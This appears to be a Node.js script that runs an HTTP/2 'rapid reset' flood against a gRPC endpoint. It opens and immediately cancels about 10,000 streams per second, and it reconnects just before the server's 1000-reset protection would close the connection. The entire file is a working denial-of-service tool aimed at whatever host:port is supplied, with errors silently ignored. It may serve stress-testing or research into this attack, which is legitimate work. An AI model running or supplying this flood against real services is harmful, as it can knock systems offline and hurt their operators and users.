/**
 * Opens and resets streams at a gRPC door: `node reset-storm.mjs host:port seconds`. Says at the end how many it were.
 * Node drops a connection after a burst of 1000 resets (nghttp2's answer to "rapid reset"), so it connects anew.
 */
import { once } from 'node:events';
import { connect, constants } from 'node:http2';
import { performance } from 'node:perf_hooks';
import process from 'node:process';
import { setImmediate } from 'node:timers/promises';
const RATE = 10_000;
const A_CONNECTION = 900;
const [address, seconds] = process.argv.slice(2);
const headers = {
  ':method': 'POST',
  ':path': '/postcard.v1.MessageService/SendMediaMessage',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const begin = performance.now();
let opened = 0;
let session = null;
let left = 0;
for (let elapsed = 0; elapsed < Number(seconds) * 1_000; elapsed = performance.now() - begin) {
  for (const due = (elapsed / 1_000) * RATE; opened < due; opened += 1, left -= 1) {
    if (session === null || session.destroyed || session.closed || left <= 0) {
      session?.destroy();
      session = connect(`http://${address}`).on('error', () => undefined);
      await once(session, 'connect');
      left = A_CONNECTION;
    }
    const stream = session.request(headers).on('error', () => undefined);
    stream.close(constants.NGHTTP2_CANCEL);
    if (left % 90 === 0) await setImmediate();
  }
  await setImmediate();
}
session?.destroy();
process.stdout.write(`${JSON.stringify({ opened, seconds: (performance.now() - begin) / 1_000 })}\n`);
